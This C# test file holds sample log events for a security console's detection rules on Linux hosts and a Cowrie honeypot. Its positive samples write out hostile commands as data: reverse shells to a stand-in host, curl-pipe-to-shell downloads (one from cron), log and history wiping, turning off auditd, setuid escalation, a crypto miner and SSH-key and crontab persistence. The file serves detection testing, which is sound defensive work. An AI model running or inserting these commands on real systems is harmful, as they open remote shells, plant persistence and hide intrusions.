namespace SocConsole.Tests.Detection.Rules;

/// <summary>Samples for the built-in rules about Linux hosts and honeypots.</summary>
internal static class HostRuleSamples
{
    private const string Exec = "event.dataset=auditd; event.category=process; host.name=db1; type=EXECVE; process.command_line=";
    private const string Call = "event.dataset=auditd; event.category=process; host.name=db1; type=SYSCALL; ";
    private const string Path = "event.dataset=auditd; event.category=file; host.name=db1; type=PATH; nametype=";
    private const string Record = "event.dataset=auditd; host.name=db1; type=";
    private const string Account = "event.dataset=syslog; event.category=iam; host.name=db1; user.name=mallory; event.action=";
    private const string Pot = "event.dataset=cowrie; source.ip=203.0.113.9; host.name=pot1; eventid=";
    private const string Input = Pot + "cowrie.command.input; input=";

    public static readonly IReadOnlyDictionary<string, RuleSample> ByRule = new Dictionary<string, RuleSample>
    {
        ["linux_reverse_shell"] = new(
            [Exec + "bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", Exec + "nc -e /bin/sh 198.51.100.9 4444"],
            [Exec + "nc -zv 198.51.100.9 443", Exec + "bash -i", Exec + "ls /dev/pts"]),
        ["linux_download_and_run"] = new(
            [Exec + "bash -c curl http://198.51.100.9/x | sh", Exec + "sh -c echo aWQ= | base64 -d | bash"],
            [Exec + "curl -O https://example.com/x.tar.gz", Exec + "bash -c curl https://example.com/x | jq ."]),
        ["linux_traces_wiped"] = new(
            [Exec + "rm -rf /var/log/auth.log", Exec + "bash -c history -c", Exec + "auditctl -e 0"],
            [Exec + "tail -f /var/log/auth.log", Exec + "rm -rf /var/log/nginx/old.log", Exec + "auditctl -l"]),
        ["linux_setuid_set"] = new(
            [Exec + "chmod u+s /tmp/sh", Exec + "chmod 4755 /usr/local/bin/x", Exec + "setcap cap_setuid+ep /usr/bin/python3"],
            [Exec + "chmod 0755 /srv/app", Exec + "chmod +x run.sh", Exec + "setcap cap_net_bind_service+ep /srv/app"]),
        ["linux_miner"] = new([Exec + "./xmrig -o stratum+tcp://pool.example:3333"], [Exec + "./run --level 3"]),
        ["auditd_temporary_program"] = new(
            [Call + "arch=c000003e; syscall=59; success=yes; process.executable=/tmp/blitz64"],
            [Call + "arch=c000003e; syscall=59; success=yes; process.executable=/usr/bin/wget", Call + "arch=c000003e; syscall=2; success=yes; process.executable=/tmp/x", Call + "arch=c000003e; syscall=59; success=yes; process.executable=/tmp/go-build1/x"]),
        ["auditd_module_loaded"] = new(
            [Call + "arch=c000003e; syscall=313; success=yes; process.executable=/home/bob/load"],
            [Call + "arch=c000003e; syscall=313; success=yes; process.executable=/usr/bin/kmod", Call + "arch=c000003e; syscall=175; success=no; process.executable=/tmp/x"]),
        ["auditd_process_traced"] = new(
            [Call + "arch=c000003e; syscall=101; success=yes; a0=10; process.executable=/home/bob/mimipenguin"],
            [Call + "arch=c000003e; syscall=101; success=yes; a0=10; process.executable=/usr/bin/gdb", Call + "arch=c000003e; syscall=59; success=yes; a0=10; process.executable=/usr/bin/id"]),
        ["auditd_account_file"] = new(
            [Path + "CREATE; file.path=/etc/sudoers.d/90-x", Path + "CREATE; file.path=/root/.ssh/authorized_keys"],
            [Path + "NORMAL; file.path=/etc/sudoers", Path + "CREATE; file.path=/home/bob/x", Path + "CREATE; file.path=/etc/pam.d/sshd.dpkg-new"]),
        ["auditd_anomaly"] = new([Record + "ANOM_ROOT_TRANS", Record + "CRYPTO_REPLAY_USER"], [Record + "USER_LOGIN", Record + "ANOM_LINK"]),
        ["auditd_setuid_crash"] = new([Record + "ANOM_ABEND; process.name=su"], [Record + "ANOM_ABEND; process.name=firefox"]),
        ["auditd_crash"] = new([Record + "ANOM_ABEND; process.name=ipp"], [Record + "ANOM_ROOT_TRANS"]),
        ["auditd_listening"] = new(
            [Record + "ANOM_PROMISCUOUS; dev=eth0; prom=256; old_prom=0"],
            [Record + "ANOM_PROMISCUOUS; dev=veth1; prom=256; old_prom=0", Record + "ANOM_PROMISCUOUS; dev=eth0; prom=0; old_prom=256"]),
        ["auditd_policy_changed"] = new(
            [Record + "MAC_STATUS; enforcing=0; old_enforcing=1", Record + "CONFIG_CHANGE; audit_enabled=0"],
            [Record + "MAC_STATUS; enforcing=1; old_enforcing=1", Record + "CONFIG_CHANGE; audit_enabled=1"]),
        ["auditd_identity_changed"] = new([Record + "ACCT_UNLOCK; process.name=passwd"], [Record + "USER_ACCT"]),
        ["linux_second_root"] = new(
            [Account + "user_added; event.outcome=success; user.id=0"],
            [Account + "user_added; event.outcome=success; user.id=1001", Account + "user_added; event.outcome=failure; user.id=0"]),
        ["linux_administrator_added"] = new(
            [Account + "user_added_to_group; group.name=sudo"],
            [Account + "user_added_to_group; group.name=video", Account + "user_removed_from_group; group.name=sudo"]),
        ["linux_cron_download"] = new(
            ["event.dataset=cron; event.action=cron_command; user.name=www-data; process.command_line=curl -s http://198.51.100.9/x|sh"],
            ["event.dataset=cron; event.action=cron_command; user.name=root; process.command_line=cd / && run-parts --report /etc/cron.hourly", "event.dataset=cron; event.action=cron_command; user.name=root; process.command_line=curl -s https://example.com/ping"]),
        ["linux_pkexec_exploit"] = new(
            ["event.dataset=syslog; process.name=pkexec; message=alice: The value for the SHELL variable was not found the /etc/shells file [USER=root]"],
            ["event.dataset=syslog; process.name=pkexec; message=alice: Executing command [USER=root] [COMMAND=/usr/bin/id]"]),
        ["honeypot_login_failed"] = new([Pot + "cowrie.login.failed"], [Pot + "cowrie.login.success"]),
        ["honeypot_connection"] = new([Pot + "cowrie.session.connect"], [Pot + "cowrie.login.failed"]),
        ["honeypot_login"] = new([Pot + "cowrie.login.success"], [Pot + "cowrie.login.failed"]),
        ["honeypot_file"] = new([Pot + "cowrie.session.file_download"], [Pot + "cowrie.session.file_download.failed"]),
        ["honeypot_tunnel"] = new([Pot + "cowrie.direct-tcpip.request"], [Pot + "cowrie.session.connect"]),
        ["honeypot_download_command"] = new([Input + "cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh"], [Input + "uname -a", Input + "curl --version"]),
        ["honeypot_persistence_command"] = new(
            [Input + "echo \"ssh-rsa AAAA\" >> ~/.ssh/authorized_keys", Input + "(crontab -l; echo \"* * * * * /tmp/x\") | crontab -"],
            [Input + "cat /proc/cpuinfo"]),
        ["honeypot_miner_command"] = new([Input + "./xmrig -o pool.example:3333"], [Input + "nproc"]),
        ["honeypot_rivals_command"] = new([Input + "pkill -9 kinsing", Input + "chattr -ia /root/.ssh"], [Input + "ps aux"]),
        ["honeypot_wipe_command"] = new([Input + "rm -rf /var/log/*", Input + "unset HISTFILE"], [Input + "rm x.sh"]),
        ["honeypot_survey_command"] = new([Input + "uname -a"], [Input + "foo"]),
    };
}
